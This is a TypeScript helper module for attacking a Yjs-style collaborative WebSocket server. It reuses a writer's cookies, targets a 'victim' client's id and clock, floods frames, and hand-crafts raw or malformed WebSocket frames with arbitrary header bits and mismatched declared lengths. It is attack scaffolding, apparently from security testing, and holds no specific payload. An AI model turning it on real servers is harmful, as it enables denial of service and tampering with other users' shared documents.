import type { EventEmitter } from 'node:events';
import { connect, type Socket } from 'node:net';
import { WebSocket } from 'ws';

/** Where an attack goes, and how one speaks there. */
export type Target = {
	host: string;
	port: number;
	/** The socket of the room attacked, with its query. */
	path: string;
	/** Cookie and origin of somebody who may write there. */
	headers: Record<string, string>;
	/** Puts a message of y-protocols into the words of this server. */
	wrap?: (message: Uint8Array) => Uint8Array;
	/** What a page says first. */
	greeting?: Uint8Array[];
	/** Someone else in the room: their client id and the clock of what they write next. */
	victim: { client: number; clock: number };
	/** Hears with which code a socket of `enter` was ended by the server. */
	onclosed?: (code: number) => void;
	/** How long sockets that only stand there stand there; milliseconds. */
	hold?: number;
};

export const pause = (ms: number) => new Promise<void>((done) => setTimeout(done, ms));
export const held = (target: Target) => pause(target.hold ?? 1_000);

/** A WebSocket in the room, or null when it is not let in. */
export async function enter(
	target: Target,
	headers: Record<string, string> = target.headers
): Promise<WebSocket | null> {
	const ws = new WebSocket(`ws://${target.host}:${target.port}${target.path}`, { headers });
	ws.on('error', () => {});
	ws.on('close', (code) => target.onclosed?.(code));
	await first(ws, 'open');
	if (ws.readyState !== ws.OPEN) {
		ws.terminate();
		return null;
	}
	for (const message of target.greeting ?? []) ws.send(message);
	return ws;
}

const ANSWER = 3_000; // ms to wait for a server that may be down, or busy with the last one

/** Waits for the event, the end of the connection, or a while. */
async function first(from: EventEmitter, event: string): Promise<void> {
	await new Promise<void>((done) => {
		const finish = () => {
			clearTimeout(timer);
			done();
		};
		const timer = setTimeout(finish, ANSWER);
		from.once(event, finish).once('close', finish);
	});
}

const FULL = 4 * 1024 * 1024;

/** Sends one after the other, no faster than the network takes them; stops when it is cut off. */
export async function sendAll(ws: WebSocket, frames: Iterable<Uint8Array>): Promise<void> {
	for (const frame of frames) {
		if (ws.readyState !== ws.OPEN) return;
		ws.send(frame);
		for (let tries = 0; ws.bufferedAmount > FULL && tries < 500; tries++) await pause(5);
	}
}

/** A connection without any library, closed by the caller. */
export async function dial(target: Target): Promise<Socket> {
	const socket = connect(target.port, target.host);
	socket.on('error', () => {});
	await first(socket, 'connect');
	return socket;
}

/** The head of an upgrade to a WebSocket. */
export function upgradeHead(target: Target, extra: Record<string, string> = {}): string {
	const lines = {
		Host: `${target.host}:${target.port}`,
		Upgrade: 'websocket',
		Connection: 'Upgrade',
		'Sec-WebSocket-Version': '13',
		'Sec-WebSocket-Key': Buffer.from('0123456789abcdef').toString('base64'),
		...target.headers,
		...extra
	};
	const said = Object.entries(lines).map(([name, value]) => `${name}: ${value}\r\n`);
	return `GET ${target.path} HTTP/1.1\r\n${said.join('')}\r\n`;
}

/** An upgraded connection whose frames the caller writes byte by byte. */
export async function upgraded(
	target: Target,
	extra: Record<string, string> = {}
): Promise<Socket> {
	const socket = await dial(target);
	if (socket.destroyed) return socket;
	socket.write(upgradeHead(target, extra));
	await first(socket, 'data');
	for (const message of target.greeting ?? []) socket.write(frame(2, message));
	return socket;
}

/** Writes and waits for the network; gives up when cut off or after the patience. */
export async function pour(
	socket: Socket,
	chunks: Iterable<Uint8Array>,
	patience = 5_000
): Promise<void> {
	const until = Date.now() + patience;
	for (const chunk of chunks) {
		if (socket.destroyed || !socket.writable || Date.now() > until) return;
		if (socket.write(chunk)) continue;
		await new Promise<void>((done) => {
			const finish = () => {
				clearTimeout(timer);
				socket.off('drain', finish).off('close', finish);
				done();
			};
			const timer = setTimeout(finish, Math.max(0, until - Date.now()));
			socket.once('drain', finish).once('close', finish);
		});
	}
}

/** One WebSocket frame. */
export function frame(
	opcode: number,
	payload: Uint8Array,
	{ fin = true, rsv = 0, masked = true, declared = payload.length } = {}
): Buffer {
	const short = declared < 126 ? 0 : declared < 65_536 ? 2 : 8;
	const head = Buffer.alloc(2 + short + (masked ? 4 : 0)); // a mask of zeros changes nothing
	head[0] = (fin ? 0x80 : 0) | (rsv << 4) | opcode;
	head[1] = (masked ? 0x80 : 0) | (short === 0 ? declared : short === 2 ? 126 : 127);
	if (short === 2) head.writeUInt16BE(declared, 2);
	if (short === 8) head.writeBigUInt64BE(BigInt(declared), 2);
	return Buffer.concat([head, payload]);
}
